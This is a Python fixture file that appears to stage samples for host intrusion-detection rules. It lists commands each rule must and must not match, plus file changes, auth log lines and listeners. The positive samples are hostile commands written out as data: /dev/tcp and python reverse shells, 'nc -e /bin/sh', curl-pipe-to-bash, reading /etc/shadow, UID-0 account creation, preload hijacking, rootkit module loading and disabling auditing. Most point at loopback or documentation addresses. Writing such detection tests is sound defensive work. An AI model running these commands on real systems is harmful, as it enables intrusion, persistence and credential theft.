"""What is staged for the samples of the host rules: command lines, file changes, log lines, listeners."""

from datetime import UTC, datetime

from sensors.event import LogSource
from sensors.host.observe import observe
from sensors.host.utmp import layout

# Copies of bash under these names stand for programs that need not be installed here.
TOOLS = ("nc", "socat", "insmod", "kmod", "crontab", "xmrig", "frpc", "nginx", "sudo", "auditctl", "iptables")

# rule -> (who types, lines that must be matched, lines that must not)
PROCESSES: dict[str, tuple[str, list[str], list[str]]] = {
    "proc_creation_reverse_shell": (
        "zhang",
        [
            "bash -c 'bash -i >& /dev/tcp/127.0.0.1/9 0>&1'",
            "/bin/sh -c 'sleep 1 # bash -i >& /dev/tcp/192.0.2.1/4444 0>&1'",
            (
                '/usr/bin/python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("127.0.0.1",9));'
                'os.dup2(s.fileno(),0);pty.spawn("/bin/sh")\''
            ),
        ],
        [
            "bash -c 'timeout 1 cat < /dev/tcp/127.0.0.1/9'",
            "/usr/bin/python3 -c 'import socket;socket.socket().connect((\"127.0.0.1\",9))'",
        ],
    ),
    "proc_creation_decoded_script": (
        "zhang",
        ["bash -c 'echo dHJ1ZQo= | base64 -d | sh'", "sh -c 'echo dHJ1ZQo= | base64 --decode |/bin/bash'"],
        ["bash -c 'echo dHJ1ZQo= | base64 -d | sha256sum'", "base64 -d /etc/hostname"],
    ),
    "proc_creation_download_execute": (
        "zhang",
        [
            "bash -c 'curl -fsSL http://127.0.0.1:9/install.sh | bash'",
            "sh -c 'wget -qO- http://127.0.0.1:9/x | sudo sh'",
        ],
        [
            "bash -c 'curl -fsS http://127.0.0.1:9/list.txt | sha256sum'",
            "curl -fsS -o /tmp/list http://127.0.0.1:9/list.sh",
        ],
    ),
    "proc_creation_netcat_program": (
        "zhang",
        ["nc -e /bin/sh 127.0.0.1 9", "socat TCP:127.0.0.1:9 EXEC:/bin/sh"],
        ["nc -z 127.0.0.1 9", "socat TCP:127.0.0.1:9 STDIO"],
    ),
    "proc_creation_history_clearing": (
        "zhang",
        ["bash -c 'history -c; true'", "rm -f /home/zhang/.bash_history"],
        ["bash -c 'history | tail -3'", "rm -f /home/zhang/notes.txt", "wc -l /home/zhang/.bash_history"],
    ),
    "proc_creation_attribute_change": (
        "root",
        ["chattr -i /etc/passwd", "chattr +i /root/.ssh/authorized_keys"],
        ["chattr +C /opt", "lsattr -d /etc/passwd"],
    ),
    "proc_creation_cron_from_temporary": (
        "zhang",
        ["crontab /tmp/.tasks", "sh -c 'echo \"* * * * * true\" | crontab -'"],
        ["crontab -l", "crontab /home/zhang/tasks"],
    ),
    "proc_creation_setuid_bit": (
        "root",
        ["cp /usr/bin/id /opt/id; chmod u+s /opt/id", "chmod 4755 /opt/id"],
        ["chmod 0755 /opt/id", "chmod u+x /opt/id", "chmod 644 /etc/hostname"],
    ),
    "proc_creation_root_account": (
        "root",
        ["useradd -o -u 0 -g 0 -M backup2", "usermod -o -u 0 backup2"],
        ["useradd -m -u 1500 li", "usermod -s /bin/bash li"],
    ),
    "proc_creation_ssh_key_append": (
        "zhang",
        [
            "sh -c 'echo ssh-ed25519 AAAAC3Nz >> /home/zhang/.ssh/authorized_keys'",
            "cp /etc/hostname /home/zhang/.ssh/authorized_keys",
        ],
        ["cat /home/zhang/.ssh/authorized_keys", "ls -l /home/zhang/.ssh/authorized_keys"],
    ),
    "proc_creation_preload_hijack": (
        "root",
        [
            "sh -c 'LD_PRELOAD=/tmp/hook.so /usr/bin/id'",
            "sh -c 'echo /opt/hook.so > /etc/ld.so.preload; rm /etc/ld.so.preload'",
        ],
        [
            "sh -c 'LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libjemalloc.so.2 /usr/bin/id'",
            "ls /etc/ld.so.preload",
        ],
    ),
    "proc_creation_kernel_module": (
        "root",
        ["insmod /tmp/diamorphine.ko", "kmod insmod /home/zhang/net.ko"],
        ["insmod /lib/modules/6.1.0/kernel/net/dummy.ko", "kmod list"],
    ),
    "proc_creation_log_removal": (
        "root",
        ["touch /var/log/old.log; rm -f /var/log/old.log", "sh -c 'echo > /var/log/lastlog2'"],
        ["ls -l /var/log/wtmp", "rm -f /opt/old.log", "sh -c 'date >> /var/log/update.log'"],
    ),
    "proc_creation_password_file_access": (
        "root",
        ["cat /etc/shadow", "cp /etc/shadow /opt/s"],
        ["cat /etc/passwd", "stat /etc/shadow", "getent passwd root"],
    ),
    "proc_creation_tunnel_tool": (
        "zhang",
        ["frpc -c /opt/frpc.ini", "ssh -o BatchMode=yes -N -R 8080:127.0.0.1:80 127.0.0.1"],
        ["ssh -V", "ssh -o BatchMode=yes 127.0.0.1 uptime"],
    ),
    "proc_creation_mining": (
        "zhang",
        ["xmrig -o stratum+tcp://127.0.0.1:9 -u 4A", "bash -c ': --donate-level 1 --coin=monero; sleep 0.1'"],
        ["openssl speed -seconds 1 sm3", "bash -c ': coin; sleep 0.1'"],
    ),
    "proc_creation_web_server_shell": (
        "root",
        ["nginx -c 'sh -c \"id; true\"; true'", "nginx -c 'whoami; true'"],
        ["nginx -c 'cat /etc/hostname; true'", "sh -c 'nginx -c true; true'"],
    ),
    "proc_creation_temporary_folder": (
        "zhang",
        [
            "cp /usr/bin/sleep /tmp/.x; /tmp/.x 0.1",
            "cp /usr/bin/sleep /dev/shm/kw; /dev/shm/kw 0.1; rm /dev/shm/kw",
        ],
        ["sleep 0.1", "ls /tmp/.x"],
    ),
    "proc_creation_memory_only": (
        "zhang",
        [
            (
                '/usr/bin/python3 -c \'import os;f=os.memfd_create("kit",0);'
                'os.write(f,open("/usr/bin/sleep","rb").read());os.execv(f"/proc/self/fd/{f}",["kit","0.2"])\''
            )
        ],
        ["sleep 0.1", "/usr/bin/python3 -c 'import os;os.memfd_create(\"kit\")'"],
    ),
    "proc_creation_protection_stopped": (
        "root",
        ["systemctl stop auditd", "iptables -F", "auditctl -e 0"],
        ["systemctl status auditd", "iptables -L -n", "systemctl restart cron"],
    ),
    "proc_creation_sudo_grant": (
        "root",
        ["sh -c 'echo \"li ALL=(ALL) NOPASSWD: ALL\" > /etc/sudoers.d/li; rm /etc/sudoers.d/li'"],
        ["sh -c 'echo NOPASSWD; true'", "ls /etc/sudoers.d"],
    ),
    "proc_creation_terminal_upgrade": (
        "zhang",
        [
            "/usr/bin/python3 -c 'import pty;pty.spawn([\"/bin/true\"])'",
            "timeout 1 script -qc /bin/bash /dev/null",
        ],
        ["/usr/bin/python3 -c 'import pty;print(pty.__name__)'", "script --version"],
    ),
}

# rule -> (changes that must be matched, changes that must not)
FILES: dict[str, tuple[list[str], list[str]]] = {
    "file_event_accounts": (
        ["useradd -m sun", "echo sun:Liuhe-2026x | chpasswd"],
        ["chmod 640 /etc/shadow; chmod 600 /etc/shadow", "echo 127.0.0.9 a >> /etc/hosts"],
    ),
    "file_event_sudo": (
        ["mkdir -p /etc/sudoers.d", "echo 'zhang ALL=(ALL) ALL' > /etc/sudoers.d/zhang"],
        ["echo 127.0.0.8 b >> /etc/hosts"],
    ),
    "file_event_ssh_keys": (
        ["echo ssh-ed25519 AAAA > /root/.ssh/authorized_keys", "echo x >> /home/zhang/.ssh/authorized_keys"],
        ["echo host > /root/.ssh/known_hosts"],
    ),
    "file_event_cron": (
        ["echo '0 3 * * * root true' > /etc/cron.d/job", "rm /etc/cron.d/job"],
        ["echo 127.0.0.7 c >> /etc/hosts", "chmod 700 /etc/cron.d"],
    ),
    "file_event_pam": (
        ["echo 'auth optional pam_permit.so' >> /etc/pam.d/su", "echo deny=5 >> /etc/security/faillock.conf"],
        ["echo 127.0.0.6 d >> /etc/hosts"],
    ),
    "file_event_preload": (
        ["echo /opt/hook.so > /etc/ld.so.preload; sleep 1; rm /etc/ld.so.preload"],
        ["echo /opt/lib > /etc/ld.so.conf.d/opt.conf"],
    ),
    "file_event_service_unit": (
        ["echo '[Service]' > /etc/systemd/system/agent.service", "rm /etc/systemd/system/agent.service"],
        ["echo 127.0.0.5 e >> /etc/hosts"],
    ),
    "file_event_shell_start": (
        ["echo TMOUT=600 > /etc/profile.d/timeout.sh"],
        ["rm /etc/profile.d/timeout.sh", "echo 127.0.0.4 f >> /etc/hosts"],
    ),
    "file_event_watched": (
        [
            "echo 127.0.0.3 g >> /etc/hosts",
            "echo Banner none > /etc/ssh/drill.conf",
            "rm /etc/ssh/drill.conf",
        ],
        ["chmod 600 /etc/hosts", "chown daemon /etc/hosts"],
    ),
}

LOG_LINES = (
    "sshd[2201]: Failed password for invalid user oracle from 203.0.113.9 port 51544 ssh2",
    "sshd[2203]: Failed password for zhang from 203.0.113.9 port 51546 ssh2",
    "sshd[2210]: Accepted publickey for zhang from 198.51.100.4 port 40022 ssh2: ED25519 SHA256:abc",
    "sudo:     zhang : user NOT in sudoers ; TTY=pts/0 ; PWD=/home/zhang ; USER=root ; COMMAND=/usr/bin/vim",
    "sudo:       li : TTY=pts/1 ; PWD=/home/li ; USER=root ; COMMAND=/usr/bin/systemctl reload nginx",
    "su[2307]: FAILED SU (to root) zhang on pts/0",
    "su[2311]: (to postgres) root on pts/1",
    "useradd[2400]: new user: name=toor, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0",
    "useradd[2402]: new user: name=wu, UID=1501, GID=1501, home=/home/wu, shell=/bin/bash, from=/dev/pts/0",
)

_LISTEN = (
    "-MIO::Socket::INET -e 'my $s=IO::Socket::INET->new(Listen=>1,LocalAddr=>q({0}),LocalPort=>{1});sleep 9'"
)
LISTENERS = (
    ("zhang", "/home/zhang/agent " + _LISTEN.format("0.0.0.0", 47811)),
    ("zhang", "/usr/bin/perl " + _LISTEN.format("0.0.0.0", 6379)),
    ("zhang", "/usr/bin/perl " + _LISTEN.format("127.0.0.1", 8125)),
)

_DROPS = LogSource(product="liuhe", service="capture")
CAPTURE = [
    observe(
        "net.capture",
        _DROPS,
        {
            "interface.name": "eth0",
            "gov.capture.received": received,
            "gov.capture.dropped": dropped,
            "gov.capture.interface_dropped": 0,
        },
        host="web-01",
    )
    for received, dropped in ((184_220, 311), (90_112, 0))
]

BENIGN: dict[str, list[str]] = {
    "root": [
        "ls -la /etc /var/log",
        "df -h; free -m; uptime; ps aux | head -5; ss -lntp",
        "grep -c root /etc/passwd; cut -d: -f1 /etc/passwd | sort | tail -3",
        "find /etc -name '*.conf' -newer /etc/passwd | head -3",
        "du -sh /var/cache; stat /etc/shadow; file /usr/bin/bash",
        "apt-cache policy bash | head -3; dpkg -l bash | tail -1; dpkg-query -W coreutils",
        "systemctl list-units | head -3; systemctl restart cron; systemctl status sshd",
        "journalctl -n 3; tail -n 2 /var/log/dpkg.log; zcat -f /var/log/dpkg.log | wc -l",
        "useradd -m -s /bin/bash chen; id chen; passwd -S chen; userdel -r chen",
        "chmod 755 /opt; chown root:root /opt; mkdir -p /opt/app/conf; touch /opt/app/conf/a.ini",
        "cp /etc/hostname /opt/app/; mv /opt/app/hostname /opt/app/h; rm -rf /opt/app",
        "tar czf /opt/etc.tgz /etc/hostname /etc/hosts; gzip -l /opt/etc.tgz; sha256sum /opt/etc.tgz",
        "crontab -l; iptables -L -n; auditctl -s; chattr +C /opt; lsattr -d /opt",
        "sysctl -n kernel.randomize_va_space; cat /proc/meminfo | head -2; lsblk; mount | head -2",
        "ip addr show lo; ip route; hostname -f; date -u; uname -a; last -n 2; who",
        "for f in /etc/hosts /etc/hostname /etc/fstab /etc/issue /etc/shells; do wc -l $f; done",
        "for u in root daemon mail nobody www-data; do getent passwd $u; id -nG $u; done",
        "ls /proc/sys/net; cat /proc/loadavg /proc/version; readlink -f /usr/bin/python3; basename /a/b",
        "find /usr/share/doc -maxdepth 1 -name 'b*' | wc -l; dpkg -S /usr/bin/bash; apt-mark showhold",
        "visudo -c; sshd -t; nginx -c 'true'; logrotate --version; logger -t backup done",
    ],
    "zhang": [
        "ls -la; pwd; id; groups; env | sort | head -3; whoami; hostname",
        "echo 'print(1+1)' > a.py; /usr/bin/python3 a.py; /usr/bin/python3 -m json.tool --help | head -2",
        "git init -q repo; cd repo; git config user.email zhang@example.invalid; git config user.name zhang",
        "cd repo; echo a > a; git add a; git commit -qm first; git log --oneline | cat; git status --short",
        "for n in 1 2 3 4 5 6 7 8 9 10; do awk -v n=$n 'BEGIN {print n*n}'; done | paste -sd+ | bc",
        "sed -n 1,3p /etc/services; head -2 /etc/protocols; tail -1 /etc/services; wc -l /etc/services",
        "curl -sS http://127.0.0.1:9/health; curl --version | head -1; wget --version | head -1",
        "echo aGVsbG8= | base64 -d; echo hello | base64; echo hello | sha256sum; openssl rand -hex 8",
        "vim --version | head -1; less --version | head -1; man -w ls; which bash perl git; true",
        "for n in a b c d e f; do mkdir -p w/$n; touch w/$n/x; ls w/$n; done; rm -r w",
        "for n in 1 2 3 4 5; do date +%s; expr $n + 1; dirname /a/$n; done; split -l 1 a.py p.; cat p.*",
        "make --version | head -1; gcc --version | head -1; perl -e 'print 42'; test -f a.py && cp a.py b.py",
        "ssh -V; scp -o BatchMode=yes 127.0.0.1:/x /home/zhang/; ssh -o BatchMode=yes 127.0.0.1 true",
        "cat /etc/os-release | grep -i pretty; xargs -a /etc/hostname echo; tr a-z A-Z < /etc/hostname",
        "tar cf - a.py b.py | gzip -c > src.tgz; tar tzf src.tgz; diff a.py b.py; cmp a.py b.py; rm b.py",
        "bash -c 'for f in *.py; do wc -c \"$f\"; done'; sh -c 'echo ok >> run.log'; timeout 1 sleep 0.2",
        "find . -name '*.py' -exec md5sum {} +; chmod u+x a.py; touch -d yesterday a.py; ls -t | head -2",
        "nc -z 127.0.0.1 9; getent hosts localhost; getent passwd zhang; printenv HOME; nproc; seq 3",
        "bash -c 'timeout 1 cat < /dev/tcp/127.0.0.1/9'; /usr/bin/python3 -c 'print(1)'",
    ],
}


def utmp_records() -> bytes:
    """wtmp as a login program writes it: a remote root, a local root, a remote person, her logout."""
    now = int(datetime.now(UTC).timestamp())
    form = layout()
    rows = (
        (7, 3001, "pts/0", "root", "203.0.113.9", bytes((203, 0, 113, 9))),
        (7, 3002, "tty1", "root", "", b""),
        (7, 3003, "pts/1", "zhang", "198.51.100.4", bytes((198, 51, 100, 4))),
        (8, 3003, "pts/1", "", "", b""),
    )
    return b"".join(
        form.pack(kind, pid, line.encode(), b"ts/0", user.encode(), host.encode(), 0, 0, 0, now, 0, address)
        for kind, pid, line, user, host, address in rows
    )
